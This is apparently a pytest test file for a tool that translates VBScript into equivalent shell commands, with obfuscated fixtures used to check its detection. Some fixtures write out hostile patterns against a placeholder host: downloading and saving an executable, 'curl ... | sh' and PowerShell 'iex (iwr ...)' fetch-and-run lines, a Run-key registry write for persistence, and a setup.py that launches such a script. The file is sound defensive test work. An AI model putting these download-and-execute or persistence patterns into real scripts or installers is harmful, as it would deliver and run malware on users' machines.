"""What a script of VBScript does is told as command lines that do the same; what nobody knows, as unread."""

import pytest
from program_of import program_of

from ostiary.program.batch.vb_values import MAX_TEXT
from ostiary.program.batch.vbscript import MAX_STATEMENTS, commands_of
from ostiary.program.flow import Act

SHELL = 'CreateObject("WScript.Shell")'
CLIENT = """
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://a.example.invalid/b.exe", False
h.Send
"""


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (f'Set s = {SHELL}\ns.Run "echo said", 0, False', "echo said"),
        (f'{SHELL}.Run("echo " & "said")', "echo said"),
        (f'x = Chr(101) & ChrW(&H63) & "ho " \' a remark\n{SHELL}.Exec x & "said"', "echo said"),
        (f'{SHELL}.Run StrReverse("dias ohce")', "echo said"),
        (f'{SHELL}.Run Replace("eXho said", "X", "c")', "echo said"),
        (f'{SHELL}.Run Join(Array("echo", "said"), " ")', "echo said"),
        (f'p = Split("echo;said", ";")\n{SHELL}.Run p(0) & " " & p(1)', "echo said"),
        (f'{SHELL}.Run Mid("xecho saidx", 2, 9)', "echo said"),
        (f'CALL {SHELL}.RUN("echo " & _\n  "said", 0)', "echo said"),
        (f'if a then {SHELL}.Run "echo said"', "echo said"),
        ('Set w = GetObject("winmgmts:Win32_Process")\nw.Create "echo said", Null', "echo said"),
        ('CreateObject("Shell.Application").ShellExecute "echo", "said", "", "runas"', "echo said"),
        ('Execute "CreateObject(""WScript.Shell"").Run ""echo said"""', "echo said"),
        (f'Const c = "echo said" : {SHELL}.Run c', "echo said"),
        (f'Set o = WScript.{SHELL} : o.Run "echo said" : Rem that is all', "echo said"),
        (f'With {SHELL}\n  .Run "echo said", 0\nEnd With', "echo said"),
        (f'With {SHELL}\n  x = .Exec("echo said").StdOut.ReadAll\nEnd With', "echo said"),
        (f'If {SHELL}.Run("echo said") = 0 Then\n  x = 1\nEnd If', "echo said"),
        (f'If {SHELL}.Run("echo said") = 0 Then x = 1', "echo said"),
        (f'Do While {SHELL}.Run("echo said") = 0\nLoop', "echo said"),
        (CLIENT, "curl http://a.example.invalid/b.exe"),
        (
            CLIENT
            + 'Set t = CreateObject("ADODB.Stream")\nt.Write h.ResponseBody\nt.SaveToFile "c.exe", 2',
            "curl http://a.example.invalid/b.exe -o c.exe",
        ),
        (
            CLIENT + "ExecuteGlobal h.responseText",
            'powershell -c "iex (iwr http://a.example.invalid/b.exe)"',
        ),
        (f'{SHELL}.RegWrite "HKCU\\Run\\a", "b.exe"', 'reg add "HKCU\\Run\\a" "b.exe"'),
    ],
)
def test_what_it_does(text: str, said: str) -> None:
    found = commands_of(text)
    assert said in [one for _, one in found.statements]
    assert not found.cut


def test_both_values_of_a_condition_are_told() -> None:
    text = f'c = "a"\nIf x Then\n  c = "b"\nElse\n  c = "d"\nEnd If\n{SHELL}.Run c'
    assert {one for _, one in commands_of(text).statements} == {"a", "b", "d"}


@pytest.mark.parametrize(
    "text",
    [
        "#@~^AAAA==",
        "Execute other(1)",
        'For Each i In Split("1,2", ",")\nr = r & Chr(i)\nNext\nExecute r',
        'Execute "a" & b',
        "x = 1\n" * (MAX_STATEMENTS + 1),
        'x = "' + "a" * MAX_TEXT + '" & "b"\n',
    ],
)
def test_what_nobody_knows_is_told(text: str) -> None:
    assert commands_of(text).cut


@pytest.mark.parametrize(
    "text",
    [
        "Dim a\nDo While Not WScript.StdIn.AtEndOfStream\n  WScript.Echo WScript.StdIn.ReadLine()\nLoop",
        'MsgBox "CreateObject(""WScript.Shell"").Run"',
        '\' CreateObject("WScript.Shell").Run "a"',
        "",
    ],
)
def test_what_does_nothing_says_nothing(text: str) -> None:
    found = commands_of(text)
    assert not found.statements
    assert not found.cut


def test_a_script_that_an_installer_starts() -> None:
    files = {
        "setup.py": "import os\nos.system('cscript run.vbs')\n",
        "run.vbs": f'{SHELL}.Run "cur" & "l http://a.example.invalid/b | sh"\n',
    }
    found = {one.text for one in program_of("sdist", files).flows if one.act is Act.RUN}
    assert "curl http://a.example.invalid/b | sh" in found
